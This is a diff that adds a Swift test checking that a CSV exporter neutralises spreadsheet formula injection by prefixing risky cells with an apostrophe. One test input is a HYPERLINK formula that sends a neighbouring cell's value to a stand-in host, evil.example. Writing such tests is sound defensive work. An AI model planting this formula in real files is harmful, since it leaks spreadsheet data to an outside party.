@@ -50,6 +50,24 @@ struct TableTests {
                 """)
     }
 
+    @Test(
+        "In CSV no text is a formula for a spreadsheet; days and numbers stay as they are",
+        arguments: [
+            ("@SUM(A1)", "'@SUM(A1)"), ("+358401234567", "'+358401234567"), ("-2+3", "'-2+3"), ("=1", "'=1"),
+            ("\t=1", "'\t=1"), ("\r=1", "\"'\r=1\""), ("\r\n=1", "\"'\r\n=1\""), ("-", "-"), ("-a", "'-a"),
+            ("-1,5", "\"'-1,5\""),
+            (
+                #"=HYPERLINK("http://evil.example/?x="&A2,"avaa")"#,
+                #""'=HYPERLINK(""http://evil.example/?x=""&A2,""avaa"")""#
+            ),
+            ("-3", "-3"), ("-3.5", "-3.5"), ("23.1", "23.1"),
+            ("2099-12-01T09:00:00+02:00", "2099-12-01T09:00:00+02:00"),
+            ("a=1", "a=1"), ("040 123 4567", "040 123 4567"), ("'=1", "'=1"), ("", ""),
+        ])
+    func formulas(_ cell: String, _ field: String) {
+        #expect(Grid(headings: ["x"], rows: [[cell]]).csv == "x\n" + field)
+    }
+
     @Test("In JSON the same names are keys, and a missing value is left out")
     func json() throws {
         let text = String(decoding: try Output.encoded(table.json(rows, on: clock)), as: UTF8.self)
